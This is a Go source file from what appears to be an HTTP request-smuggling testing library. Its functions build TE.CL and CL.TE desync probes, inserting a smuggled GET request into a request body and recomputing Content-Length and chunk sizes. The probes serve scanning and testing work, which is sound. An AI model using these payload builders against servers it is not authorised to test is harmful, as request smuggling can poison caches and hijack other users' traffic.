// Package payload builds and patches HTTP request-smuggling probes.
//
// Every operation takes the full request text and returns the rewritten text.
// When the request lacks a marker an operation needs, it returns the input
// unchanged together with a template-typed *errors.Error. Callers treat that
// as a soft warning: the returned string is always usable.
package payload

import (
	"strconv"
	"strings"

	"github.com/WhileEndless/go-desync/pkg/constants"
	"github.com/WhileEndless/go-desync/pkg/errors"
	"github.com/WhileEndless/go-desync/pkg/length"
)

const (
	crlf      = "\r\n"
	separator = "\r\n\r\n"

	// lastChunk terminates a chunked body.
	lastChunk = "\r\n0\r\n\r\n"
)

type options struct {
	probePath string
}

// Option customizes probe construction.
type Option func(*options)

// WithProbePath sets the path requested by the smuggled request.
// The default is /page_404.
func WithProbePath(path string) Option {
	return func(o *options) {
		if path != "" {
			o.probePath = path
		}
	}
}

func buildOptions(opts []Option) options {
	o := options{probePath: constants.DefaultProbePath}
	for _, opt := range opts {
		opt(&o)
	}
	return o
}

// splitRequest splits req at the first blank line. The returned head excludes
// the separator.
func splitRequest(req string) (head, body string, ok bool) {
	idx := strings.Index(req, separator)
	if idx < 0 {
		return req, "", false
	}
	return req[:idx], req[idx+len(separator):], true
}

// BodyLength returns the transmission length of everything after the first
// blank line, or 0 when there is none.
func BodyLength(req string) int {
	_, body, ok := splitRequest(req)
	if !ok {
		return 0
	}
	return length.Count(body)
}

// UpdateContentLength sets Content-Length to the transmission length of the
// body. The first Content-Length header (any case) is rewritten in place;
// without one, a header is inserted right before the blank line.
func UpdateContentLength(req string) (string, error) {
	head, body, ok := splitRequest(req)
	if !ok {
		return req, errors.NewTemplateError("missing header/body separator")
	}
	return setContentLength(head, length.Count(body)) + separator + body, nil
}

// BuildTECLPrefix replaces the body with an empty chunk followed by the start
// of a second request whose header line is left open, then fixes up
// Content-Length so a length-honoring front end forwards all of it.
func BuildTECLPrefix(req string, opts ...Option) (string, error) {
	o := buildOptions(opts)

	head, _, ok := splitRequest(req)
	if !ok {
		return req, errors.NewTemplateError("missing header/body separator")
	}

	body := "0" + separator +
		"GET " + o.probePath + " HTTP/1.1" + crlf +
		"X:"

	return UpdateContentLength(head + separator + body)
}

// BuildCLTEPrefix replaces the body with a single chunk carrying a complete
// smuggled request and sets Content-Length to cover only the chunk-size
// line, so a length-honoring front end stops where a chunk-honoring back end
// keeps reading.
func BuildCLTEPrefix(req string, opts ...Option) (string, error) {
	o := buildOptions(opts)

	head, _, ok := splitRequest(req)
	if !ok {
		return req, errors.NewTemplateError("missing header/body separator")
	}

	host, found := headerValue(head, "Host")
	if !found || host == "" {
		return req, errors.NewTemplateError("missing Host header")
	}

	inner := "GET " + o.probePath + " HTTP/1.1" + crlf +
		"Host: " + host + crlf +
		"Content-Length: " + strconv.Itoa(constants.ProbeInnerContentLength) + separator +
		"x="

	size := length.Hex(length.Count(inner))
	body := size + crlf + inner + lastChunk

	return setContentLength(head, len(size)+len(crlf)) + separator + body, nil
}

// RecomputeChunkSize rewrites the first chunk-size token so it matches the
// transmission length of everything between the chunk-size line and the last
// terminating zero chunk.
func RecomputeChunkSize(req string) (string, error) {
	idx := strings.Index(req, separator)
	if idx < 0 {
		return req, errors.NewTemplateError("missing header/body separator")
	}
	sizeStart := idx + len(separator)

	lineEnd := strings.Index(req[sizeStart:], crlf)
	if lineEnd < 0 {
		return req, errors.NewTemplateError("missing chunk-size line")
	}
	sizeEnd := sizeStart + lineEnd
	contentStart := sizeEnd + len(crlf)

	end := strings.LastIndex(req, lastChunk)
	if end < contentStart {
		return req, errors.NewTemplateError("missing terminating zero chunk")
	}

	size := length.Hex(length.Count(req[contentStart:end]))

	// Keep chunk extensions such as "b;ext=1".
	line := req[sizeStart:sizeEnd]
	if semi := strings.IndexByte(line, ';'); semi >= 0 {
		size += line[semi:]
	}

	return req[:sizeStart] + size + req[sizeEnd:], nil
}

// setContentLength rewrites the first Content-Length line of head, or appends
// one. head must not contain the trailing blank line.
func setContentLength(head string, n int) string {
	header := "Content-Length: " + strconv.Itoa(n)

	lines := strings.Split(head, crlf)
	for i := 1; i < len(lines); i++ {
		if hasHeaderPrefix(lines[i], "Content-Length") {
			lines[i] = header
			return strings.Join(lines, crlf)
		}
	}
	return head + crlf + header
}
